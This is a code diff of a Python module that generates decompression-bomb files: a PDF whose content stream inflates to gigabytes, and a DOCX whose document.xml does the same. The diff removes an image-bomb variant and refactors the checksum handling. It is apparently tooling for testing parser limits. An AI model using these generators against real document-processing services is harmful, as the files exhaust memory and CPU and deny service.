@@ -7,14 +7,14 @@ import zipfile
 import zlib
 
 
-def _raw_deflate(block: bytes, count: int) -> tuple[bytes, int, int]:
-    """Raw deflate data of `block` repeated `count` times, with its CRC-32 and Adler-32. Fast: one block is
-    compressed once and its output repeated, which is valid because a full flush ends it on a byte boundary
-    with no reference to earlier data."""
+def _raw_deflate(block: bytes, count: int, crc: int = 0) -> tuple[bytes, int, int]:
+    """Raw deflate data of `block` repeated `count` times, its CRC-32 (continuing `crc`) and Adler-32. Fast:
+    one block is compressed once and its output repeated, which is valid because a full flush ends it on a byte
+    boundary with no reference to earlier data."""
     compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
     piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
     final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # an empty last block
-    crc, adler = 0, 1
+    adler = 1
     for _ in range(count):
         crc, adler = zlib.crc32(block, crc), zlib.adler32(block, adler)
     return piece * count + final, crc, adler
@@ -23,11 +23,6 @@ def _raw_deflate(block: bytes, count: int) -> tuple[bytes, int, int]:
 def _zlib_repeated(block: bytes, count: int) -> bytes:
     raw, _crc, adler = _raw_deflate(block, count)
     return b"\x78\xda" + raw + struct.pack(">I", adler)
-
-
-def _deflate_zeros(size: int, block: int = 1 << 22) -> bytes:
-    """zlib data of `size` zero bytes (size a multiple of `block` or rounded up to one)."""
-    return _zlib_repeated(b"\0" * block, max(1, -(-size // block)))
 
 
 def _pdf(objects: list[bytes]) -> bytes:
@@ -50,22 +45,8 @@ def _stream(dictionary: bytes, data: bytes) -> bytes:
         b"\nendstream"
 
 
-def pdf_image_bomb(width: int = 40_000, height: int = 20_000) -> bytes:
-    """A one-page PDF (~2.4 MB) drawing an RGB image of width x height pixels of zeros (2.4 GB decoded)."""
-    pixels = _deflate_zeros(width * height * 3)
-    return _pdf([
-        b"<< /Type /Catalog /Pages 2 0 R >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im0 5 0 R >> >> "
-        b"/Contents 4 0 R >>",
-        _stream(b"", zlib.compress(b"q 612 0 0 792 0 0 cm /Im0 Do Q")),
-        _stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8"
-                % (width, height), pixels),
-    ])
-
-
 def pdf_content_bomb(size: int = 2 << 30) -> bytes:
-    """A one-page PDF whose content stream inflates to `size` bytes (spaces with one path: GBs to parse)."""
+    """A one-page PDF whose content stream inflates to `size` bytes (tiny path operators, tens of millions of them)."""
     unit = b"0 0 m 1 1 l S " * 64
     block = unit * ((1 << 22) // len(unit))
     data = _zlib_repeated(block, max(1, size // len(block)))
@@ -103,27 +84,20 @@ def docx_bomb(size: int = 2 << 30) -> bytes:
     unit = b"<w:p><w:r><w:t>bomb bomb bomb bomb</w:t></w:r></w:p>"
     block = unit * ((1 << 22) // len(unit))
     count = max(1, size // len(block))
-    body, crc, _adler = _raw_deflate(block, count)
+    body, crc, _adler = _raw_deflate(block, count, zlib.crc32(head))
     # the head and the tail become the first and the last blocks of the same raw deflate stream
     first = zlib.compressobj(9, zlib.DEFLATED, -15)
     head_raw = first.compress(head) + first.flush(zlib.Z_FULL_FLUSH)
     last = zlib.compressobj(9, zlib.DEFLATED, -15)
     tail_raw = last.compress(tail) + last.flush()
     data = head_raw + body[:-2] + tail_raw
-    crc = zlib.crc32(tail, _crc_after(head, block, count))
+    crc = zlib.crc32(tail, crc)
     plain_size = len(head) + len(block) * count + len(tail)
     members = [
         ("[Content_Types].xml", CONTENT_TYPES),
         ("_rels/.rels", RELS),
     ]
     return _zip(members, ("word/document.xml", data, crc, plain_size))
-
-
-def _crc_after(head: bytes, block: bytes, count: int) -> int:
-    crc = zlib.crc32(head)
-    for _ in range(count):
-        crc = zlib.crc32(block, crc)
-    return crc
 
 
 CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
